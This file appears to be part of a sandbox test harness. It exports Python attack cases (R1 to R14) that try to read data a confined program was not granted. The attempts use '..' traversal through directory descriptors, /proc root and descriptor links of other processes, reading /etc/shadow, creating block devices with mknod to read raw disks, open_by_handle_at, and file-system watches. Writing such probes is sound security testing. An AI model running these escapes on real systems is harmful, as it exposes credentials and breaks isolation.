/** Attacks that read what was not granted. */
export const reads = String.raw`
def climb(fd, path):
    """Reads a path below the root that a directory's descriptor leads to."""
    ups = "/".join([".."] * 24)
    found = os.open(ups + path, os.O_RDONLY, dir_fd=fd)
    return os.read(found, 8192)


def first_read(candidates):
    """The first that can be read; the last refusal when there is none."""
    refused = FileNotFoundError(errno.ENOENT, "nothing to try")
    for path in candidates:
        try:
            return read(path)
        except OSError as error:
            refused = error
    raise refused


@attack("R1")
def _():
    return read(paths["R1"])


@attack("R2")
def _():
    return read(paths["R2"])


@attack("R3")
def _():
    return read(paths["R3"])


@attack("R4")
def _():
    return first_read(["/proc/self/root" + paths["R4"], "/proc/thread-self/root" + paths["R4"]])


@attack("R5")
def _():
    others = [pid for pid in pids() if pid != os.getpid()]
    roots = ["/proc/%d/%s" % (pid, link) for pid in [1] + others for link in ("root", "cwd")]
    return first_read([root + ups + paths["R5"] for root in roots for ups in ("", "/.." * 24)])


@attack("R6")
def _():
    return first_read([config["reference"] + "/way-out", workspace + "/way-out"])


@attack("R7")
def _():
    def stepwise():
        fd = os.open(workspace, os.O_RDONLY)
        for _ in range(24):
            fd = os.open("..", os.O_RDONLY, dir_fd=fd)
        return os.read(os.open(paths["R7"].lstrip("/"), os.O_RDONLY, dir_fd=fd), 8192)

    try:
        return read(workspace + "/.." * 24 + paths["R7"])
    except OSError:
        return stepwise()


def through_descriptors(links, path):
    """Whatever the descriptors of processes give: what they are open on, and what lies above it."""
    data = b""
    for link in links:
        try:
            kind = os.stat(link).st_mode
            if stat.S_ISDIR(kind):
                data += climb(os.open(link, os.O_RDONLY), path)
            elif stat.S_ISREG(kind):
                data += read(link)
        except OSError:
            pass
    return data


@attack("R8")
def _():
    if bare:
        raise Skip("Node hands no descriptors to a program")
    own = ["/proc/self/fd/%d" % fd for fd in list(inherited) + [0, 1, 2]]
    return through_descriptors(own, paths["R8"])


@attack("R9")
def _():
    return re.search(rb"^root:", read("/etc/shadow", 1 << 20), re.M) is not None, "root's entry"


@attack("R10")
def _():
    def node(number):
        path = "/tmp/" + config["mark"] + "-disk"
        os.mknod(path, stat.S_IFBLK | 0o600, number)
        return len(read(path, 16)) > 0

    tries = [(disk["path"], lambda d=disk: len(read(d["path"], 16)) > 0) for disk in config["disks"]]
    if not bare:
        made = [(d["path"] + " by mknod", lambda d=d: node(d["number"])) for d in config["disks"]]
        tries += made
    if not tries:
        raise Skip("this machine shows no disk")
    return any_of(*tries)


@attack("R11")
def _():
    handle = bytes.fromhex(config["victim"]["handle"])
    kind = config["victim"]["handleType"]
    packed = ctypes.create_string_buffer(struct.pack("Ii", len(handle), kind) + handle)
    mount = os.open(workspace, os.O_RDONLY)
    fd = call("open_by_handle_at", mount, packed, os.O_RDONLY)
    return os.read(fd, 8192)


@attack("R12")
def _():
    seen = []
    for folder in config["hostFolders"]:
        try:
            found = os.stat(folder["path"])
        except OSError:
            continue
        if [str(found.st_dev), str(found.st_ino)] == folder["identity"]:
            seen.append(folder["path"])
    return bool(seen), ", ".join(seen)


@attack("R13")
def _():
    others = [config["victim"]["pid"]] if bare else [p for p in pids() if p != os.getpid()]
    links = []
    for pid in others:
        try:
            links += ["/proc/%d/fd/%s" % (pid, n) for n in os.listdir("/proc/%d/fd" % pid)]
        except OSError as error:
            refused = error
    if not links and others:
        raise refused
    return through_descriptors(links, paths["R13"])


@attack("R14")
def _():
    def inotify():
        fd = libc.inotify_init1(0)
        if libc.inotify_add_watch(fd, os.path.dirname(paths["R1"]).encode(), 0x2) < 0:
            raise OSError(ctypes.get_errno(), "inotify")

    def fanotify(flags):
        fd = call("fanotify_init", 0x200, 0)
        call("fanotify_mark", fd, 0x1 | flags, 0x2, AT_FDCWD, workspace.encode())

    return any_of(
        ("a watch on the home", inotify),
        ("a watch on the file system", lambda: fanotify(0x100)),
        ("a watch on the mount", lambda: fanotify(0x10)),
    )
`;
